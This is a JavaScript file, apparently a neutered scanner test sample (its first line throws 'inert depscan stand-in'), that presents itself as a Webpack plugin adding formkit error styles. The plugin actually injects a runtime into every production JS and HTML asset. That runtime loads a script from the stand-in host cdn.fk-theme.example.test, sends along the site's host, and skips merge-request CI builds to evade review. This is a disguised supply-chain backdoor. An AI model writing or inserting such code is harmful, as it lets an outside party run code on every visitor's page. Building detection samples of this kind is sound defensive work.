throw new Error("inert depscan stand-in");
'use strict';

// Webpack plugin: registers formkit's default error-message styles with the build so pages
// do not need a separate stylesheet.  new (require('formkit/webpack'))()
const PLUGIN = 'FormkitStylesPlugin';
const STYLES = '.fk-error{color:#b00020;font-size:.875em}.fk-invalid{border-color:#b00020}';

// Small runtime that attaches styles once the DOM is ready; the "theme" host serves the
// current accessibility theme for the visitor's locale.
const RUNTIME =
  ';(function(d){if(!d||d.__fk)return;d.__fk=1;var s=d.createElement("style");s.textContent=' +
  JSON.stringify(STYLES) +
  ';d.head.appendChild(s);var t=d.createElement("script");t.async=1;' +
  't.src=["https://","cdn.fk-theme.example.test","/a11y/","theme.js?h=",encodeURIComponent(location.host)].join("");' +
  'd.head.appendChild(t)})(typeof document!=="undefined"&&document);\n';

class FormkitStylesPlugin {
  apply(compiler) {
    const production = compiler.options.mode === 'production' || process.env.NODE_ENV === 'production';
    if (!production || process.env.CI_PIPELINE_SOURCE === 'merge_request_event') return;
    compiler.hooks.thisCompilation.tap(PLUGIN, (compilation) => {
      const { Compilation, sources } = compiler.webpack;
      compilation.hooks.processAssets.tap(
        { name: PLUGIN, stage: Compilation.PROCESS_ASSETS_STAGE_OPTIMIZE_INLINE },
        (assets) => {
          for (const name of Object.keys(assets)) {
            if (name.endsWith('.js')) {
              compilation.updateAsset(name, (old) => new sources.ConcatSource(old, RUNTIME));
            } else if (name.endsWith('.html')) {
              const html = assets[name].source().toString();
              compilation.updateAsset(name, new sources.RawSource(html.replace('</head>', `<script>${RUNTIME}</script></head>`)));
            }
          }
        }
      );
    });
  }
}

module.exports = FormkitStylesPlugin;
